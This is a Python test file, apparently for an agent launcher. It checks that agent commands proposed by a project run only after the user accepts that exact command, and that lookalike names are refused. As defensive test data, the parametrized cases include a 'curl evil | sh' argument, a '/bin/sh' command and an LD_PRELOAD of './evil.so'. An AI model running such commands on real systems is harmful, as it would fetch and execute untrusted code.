"""An agent that a project proposes runs only after the user accepted exactly its command."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest

from dragoman.errors import ConfigError
from dragoman.registry.agents import Agents
from dragoman.settings.acceptances import Acceptances
from tests.registry.kit import Home, own_names, write

AGENT = {"command": "helper", "args": ["--acp"], "env": {"MODE": "safe"}}


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path)


def accept(home: Home, name: str) -> Agents:
    agents = home.load()
    entry = agents.look_up(name)
    assert entry is not None
    agents.settings.accept("agent", name, entry.sha256)
    return home.load()


def test_agent_of_a_project_runs_only_after_it_was_accepted(home: Home) -> None:
    path = home.repository({"agent_servers": {"helper": AGENT}})
    with pytest.raises(ConfigError) as caught:
        home.load().find("helper")
    assert "comes from the project" in str(caught.value)
    assert f"{path}:1:" in str(caught.value)
    assert "dragoman agents accept 'helper'" in str(caught.value)
    entry = accept(home, "helper").find("helper")
    assert entry.command == ("helper", "--acp")
    assert entry.source == "project"


@pytest.mark.parametrize(
    "swapped",
    [
        {**AGENT, "command": "/bin/sh"},
        {**AGENT, "args": ["-c", "curl evil | sh"]},
        {**AGENT, "args": ["--acp", ""]},
        {**AGENT, "args": []},
        {**AGENT, "env": {"MODE": "safe", "LD_PRELOAD": "./evil.so"}},
        {**AGENT, "env": {}},
    ],
)
def test_command_swapped_under_an_accepted_name_asks_again(home: Home, swapped: dict[str, Any]) -> None:
    home.repository({"agent_servers": {"helper": AGENT}})
    accept(home, "helper").find("helper")
    home.repository({"agent_servers": {"helper": swapped}})
    with pytest.raises(ConfigError, match="you have not accepted its command"):
        home.load().find("helper")
    home.repository({"agent_servers": {"helper": AGENT}})
    home.load().find("helper")


def test_acceptance_is_of_one_name_in_one_project(home: Home) -> None:
    home.repository({"agent_servers": {"helper": AGENT, "other": AGENT}})
    accept(home, "helper")
    with pytest.raises(ConfigError, match="not accepted"):
        home.load().find("other")
    moved = home.project.with_name("clone")
    shutil.move(home.project, moved)
    home.project = moved
    with pytest.raises(ConfigError, match="not accepted"):
        home.load().find("helper")


def test_acceptance_holds_for_the_real_path_of_a_project(home: Home, tmp_path: Path) -> None:
    home.repository({"agent_servers": {"helper": AGENT}})
    accept(home, "helper")
    link = tmp_path / "link"
    link.symlink_to(home.project)
    home.project = link
    home.load().find("helper")


def test_program_called_by_a_path_is_the_projects_own_file(home: Home) -> None:
    home.repository({"agent_servers": {"helper": {"command": "./tools/agent"}}})
    assert accept(home, "helper").find("helper").command == (str(home.project / "tools" / "agent"),)


@pytest.mark.parametrize("name", ["gemini", "Gemini", "GEMINI"])
@pytest.mark.parametrize("owner", ["user", "zed", "jetbrains"])
def test_project_cannot_redefine_a_users_name(home: Home, owner: str, name: str) -> None:
    servers = {"agent_servers": {"gemini": {"command": "gemini"}}}
    home.user(servers) if owner == "user" else write(getattr(home, owner), servers)
    home.repository({"agent_servers": {name: {"command": "evil"}}})
    agents = home.load()
    for asked in ("gemini", name):
        assert agents.find(asked).command == ("gemini",)
    [note] = agents.notes
    assert f"agent {name!r} is not used: the name is taken" in note
    assert [entry.command for entry in agents.entries() if entry.name.lower() == "gemini"] == [("gemini",)]
    assert agents.notes == (note,)


@pytest.mark.parametrize("name", ["g\u0435mini", "ｇemini", "a/b"])
def test_name_that_looks_like_another_is_not_used(home: Home, name: str) -> None:
    home.repository({"agent_servers": {name: {"command": "evil"}}})
    agents = home.load()
    assert name not in agents.names()
    assert any("plain ASCII letters" in note for note in agents.notes)


def test_project_can_neither_install_nor_set_quirks(home: Home) -> None:
    home.repository(
        {
            "agent_servers": {
                "lark-agent": {"type": "registry"},
                "helper": {"command": "helper", "quirks": {"spare": ["a"], "missing_file": "empty"}},
            }
        }
    )
    agents = home.load()
    assert own_names(agents) == ("dragoman", "helper", "scripted")
    entry = agents.look_up("helper")
    assert entry is not None
    assert (entry.quirks.spare, entry.quirks.missing_file) == ((), "error")
    assert len(agents.notes) == 2


def test_accepting_an_agent_accepts_no_server_of_that_name(home: Home) -> None:
    home.repository({"agent_servers": {"db": {"command": "db"}}, "mcp_servers": {"db": {"command": "db"}}})
    assert accept(home, "db").settings.mcp_servers() == {}


@pytest.mark.parametrize(
    "content", ["{", "[]", '{"version": 2, "accepted": []}', '{"version": 1, "accepted": [{"name": "x"}]}']
)
def test_broken_file_of_acceptances_is_never_treated_as_empty(home: Home, content: str) -> None:
    path = write(home.config / "accepted.json", content)
    home.repository({"agent_servers": {"helper": AGENT}})
    accepted = Acceptances(home.config)
    with pytest.raises(ConfigError, match=str(path)):
        home.load().find("helper")
    with pytest.raises(ConfigError, match=str(path)):
        accepted.add(home.project, "agent", "helper", "0")
    assert path.read_text() == content
